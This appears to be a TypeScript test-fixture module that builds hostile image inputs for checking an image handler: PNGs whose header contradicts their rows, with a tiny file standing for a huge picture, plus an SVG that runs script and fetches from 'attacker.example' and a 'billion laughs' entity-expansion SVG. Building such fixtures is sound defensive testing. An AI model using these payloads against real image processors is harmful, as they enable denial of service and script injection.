import { crc32, deflateSync } from 'node:zlib';

/** Returns a chunk of a PNG with its length and checksum (PNG, section 5.3). */
function makeChunk(type: string, content: Buffer): Buffer {
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  const named = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  length.writeUInt32BE(content.length);
  checksum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, checksum]);
}

type PngOptions = {
  /** Width in px according to the header. */
  width: number;
  height: number;
  /** Number of bytes of all rows before compression. A grey row has `width` bytes, and a filter byte before them. */
  rowBytes: number;
  /** Number of bytes of a comment before compression. No comment by default. */
  comment?: number;
};

/**
 * Creates a greyscale PNG, whose header and rows can contradict each other. All bytes of its pixels are 0, so that the
 * file of a huge picture is small.
 */
export function makePng({ width, height, rowBytes, comment = 0 }: PngOptions): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8);
  const text = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(comment))]);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    makeChunk('IHDR', header),
    ...(comment > 0 ? [makeChunk('zTXt', text)] : []),
    makeChunk('IDAT', deflateSync(Buffer.alloc(rowBytes))),
    makeChunk('IEND', Buffer.alloc(0)),
  ]);
}

const makeSvg = (content: string, before = '') =>
  Buffer.from(`${before}<svg xmlns="http://www.w3.org/2000/svg" width="50" height="60">${content}</svg>`);

/** An SVG that tries to run scripts and to load files. An image must do neither. */
export const activeSvg = makeSvg(`
  <script>top.attacked = true; fetch('https://attacker.example/script')</script>
  <rect width="50" height="60" fill="red" onload="top.attacked = true"/>
  <image href="https://attacker.example/image.png" width="9" height="9"/>
  <use href="https://attacker.example/use.svg#a"/>
  <style>@import url(https://attacker.example/style.css); rect { fill: url(https://attacker.example/fill.svg#a) }</style>
  <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attacker.example/"/></foreignObject>`);

/** An SVG whose text would grow to 10^9 copies of a word ("billion laughs"). */
export const growingSvg = makeSvg(
  '<text>&e9;</text>',
  `<!DOCTYPE svg [<!ENTITY e0 "word">${Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('')}]>`,
);
